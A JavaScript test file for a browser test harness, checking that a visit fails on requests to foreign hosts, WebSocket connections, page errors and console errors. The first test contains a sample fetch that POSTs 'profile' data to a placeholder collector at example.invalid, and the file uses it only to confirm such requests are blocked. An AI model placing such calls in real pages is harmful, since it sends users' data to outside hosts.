// Tests of the harness itself: each rule must really fail a visit, or the e2e tests could pass
// while the page leaks data or throws.

import assert from 'node:assert/strict';
import { test } from 'node:test';

import { visit } from './harness.mjs';

test('a request to a foreign host fails the visit and is never sent', { timeout: 60_000 }, async () => {
  await assert.rejects(
    visit({}, async ({ page }) => {
      const outcome = await page.evaluate(() =>
        fetch('http://example.invalid/collect', { method: 'POST', body: 'profile' }).then(
          () => 'sent',
          () => 'blocked',
        ),
      );
      assert.equal(outcome, 'blocked');
    }),
    /request to a foreign host: http:\/\/example\.invalid\/collect/,
  );
});

test('a WebSocket to a foreign host fails the visit', { timeout: 60_000 }, async () => {
  await assert.rejects(
    visit({}, async ({ page }) => {
      await page.evaluate(
        () =>
          new Promise((resolve) => {
            const socket = new WebSocket('ws://example.invalid/socket');
            socket.onclose = resolve;
          }),
      );
    }),
    /WebSocket to a foreign host: ws:\/\/example\.invalid\/socket/,
  );
});

test('an uncaught page error fails the visit', { timeout: 60_000 }, async () => {
  await assert.rejects(
    visit({}, async ({ page }) => {
      await Promise.all([
        page.waitForEvent('pageerror'),
        page.evaluate(() => {
          setTimeout(() => {
            throw new Error('deliberate page error');
          });
        }),
      ]);
    }),
    /page error: deliberate page error/,
  );
});

test('a console error fails the visit', { timeout: 60_000 }, async () => {
  await assert.rejects(
    visit({}, async ({ page }) => {
      await Promise.all([
        page.waitForEvent('console'),
        page.evaluate(() => console.error('deliberate console error')),
      ]);
    }),
    /console error: deliberate console error/,
  );
});
